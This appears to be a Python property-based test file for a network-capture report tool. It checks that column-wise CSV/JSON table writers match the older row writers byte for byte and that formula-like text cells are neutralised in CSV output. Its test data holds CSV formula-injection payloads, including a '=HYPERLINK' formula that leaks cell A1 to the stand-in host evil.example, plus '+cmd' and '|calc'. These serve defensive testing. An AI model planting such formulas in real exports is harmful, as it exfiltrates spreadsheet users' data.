"""The column-wise table writers write what the row-by-row writers wrote, byte for byte.

The references below are the writers as they were before the tables were written by column:
``csv.writer`` over ``_cell`` of every cell, and ``json.dumps(rows, indent=1)``."""

from __future__ import annotations

import csv
import enum
import io
import json
import math

from hypothesis import example, given, settings
from hypothesis import strategies as st

from tracecheck.report.tables import _cell, columns_to_csv, columns_to_json, csv_texts, to_csv, to_json


def reference_csv(rows: list[dict], columns: list[str]) -> str:
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(columns)
    writer.writerows([[_cell(row.get(c)) for c in columns] for row in rows])
    return out.getvalue()


def reference_json(rows: list[dict], columns: list[str]) -> str:
    return json.dumps([{c: row.get(c) for c in columns} for row in rows], indent=1, ensure_ascii=False) + "\n"


class Source(str, enum.Enum):
    SNI = "sni"
    FORMULA = "=1+1"


class Level(enum.IntEnum):
    LOW = 1


HOSTILE_TEXT = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+cmd", "-2+3", "@SUM(1)", "\tx", "\rx", "\nx",
                "|calc", "%0A", "a,b", 'say "hi"', "line\nbreak", "cr\rinside", "", " ", "'", "ünïcødé", "\x00", "\\"]
# Floats where round(v, 6) is delicate: ties (odd multiples of 1/128), the 1e-4 and 2**32
# edges of the fast path, ns timestamps, negative zero, NaN, the infinities, huge and tiny.
EDGE_FLOATS = [0.0, -0.0, 1 / 128, 3 / 128, 1e-4, 9.99999e-5, 1.0000005e-4, 5e-5, 5e-7, 1.5e-6, 2.0 ** 32,
               2.0 ** 32 - 2 ** -20, 2.0 ** 32 + 0.5, 1e16, 1e20, -1e-7, 1700000000.0045, 1700000000.1234565,
               1764230400.1234567, 0.1 + 0.2, 81.25, math.nan, math.inf, -math.inf, 5e-324, 1.7976931348623157e308]

text = st.one_of(st.sampled_from(HOSTILE_TEXT), st.text(max_size=12))
floats = st.one_of(st.sampled_from(EDGE_FLOATS), st.floats(), st.floats(min_value=-1e10, max_value=1e10),
                   st.integers(0, 2 ** 62).map(lambda ns: ns / 1e9), st.integers(-10 ** 9, 10 ** 9).map(lambda k: k / 128))
cells = st.one_of(text, floats, st.integers(-2 ** 70, 2 ** 70), st.none(), st.booleans(),
                  st.sampled_from([Source.SNI, Source.FORMULA, Level.LOW]))
# A column is usually of one type (the fast paths), sometimes mixed (cell by cell).
column_kinds = st.sampled_from([text, floats, st.integers(-2 ** 40, 2 ** 40), st.one_of(floats, st.none()),
                                st.one_of(st.integers(0, 4095), st.none()), cells])


@st.composite
def tables(draw) -> tuple[list[dict], list[str]]:
    names = draw(st.lists(st.sampled_from(["uid", "ts", "server_name", "a,b", 'q"uote', "%s", "ünï", "vlan", "x"]),
                          min_size=1, max_size=6, unique=True))
    n = draw(st.integers(0, 6))
    columns = {name: draw(st.lists(draw(column_kinds), min_size=n, max_size=n)) for name in names}
    return [{name: columns[name][i] for name in names} for i in range(n)], names


@settings(max_examples=400, deadline=None)
@given(tables())
def test_csv_is_the_row_writers_csv(table):
    rows, columns = table
    assert to_csv(rows, columns) == reference_csv(rows, columns)


@settings(max_examples=400, deadline=None)
@given(tables())
def test_json_is_json_dumps(table):
    rows, columns = table
    assert to_json(rows, columns) == reference_json(rows, columns)


@settings(max_examples=1000, deadline=None)
@given(st.lists(floats, max_size=20))
@example(EDGE_FLOATS)
def test_a_float_column_is_written_as_repr_of_round(values):
    assert csv_texts(values) == [_cell(v) for v in values]


def test_text_cells_are_neutralised_and_numbers_left_alone():
    table = {"server_name": ['=HYPERLINK("http://evil.example/?"&A1,"x")', "-1+2", "ok.example"],
             "id.resp_p": [443, 53, 80], "duration": [-0.5, 0.0, 1.25], "vlan": [None, -1, 10]}
    text = columns_to_csv(table)
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [r["server_name"] for r in rows] == ["'=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "'-1+2", "ok.example"]
    assert [(r["id.resp_p"], r["duration"], r["vlan"]) for r in rows] == [("443", "-0.5", ""), ("53", "0.0", "-1"), ("80", "1.25", "10")]
    # JSON is not opened by spreadsheets: the value is the capture's, exactly, as it always was.
    assert json.loads(columns_to_json(table))[0]["server_name"] == table["server_name"][0]


def test_a_cell_json_lays_out_over_lines_is_left_to_json_dumps():
    rows = [{"names": ["a", "b"], "n": 1}, {"names": {"x": None}, "n": 2}]
    assert to_json(rows, ["names", "n"]) == reference_json(rows, ["names", "n"])


def test_empty_tables():
    for columns in (["uid", "ts"], ["uid"]):
        assert to_csv([], columns) == reference_csv([], columns)
        assert to_json([], columns) == reference_json([], columns) == "[]\n"
    one_column = [{"uid": ""}, {"uid": None}, {"uid": "=x"}]  # csv writes a lone empty field as ""
    assert to_csv(one_column, ["uid"]) == reference_csv(one_column, ["uid"])
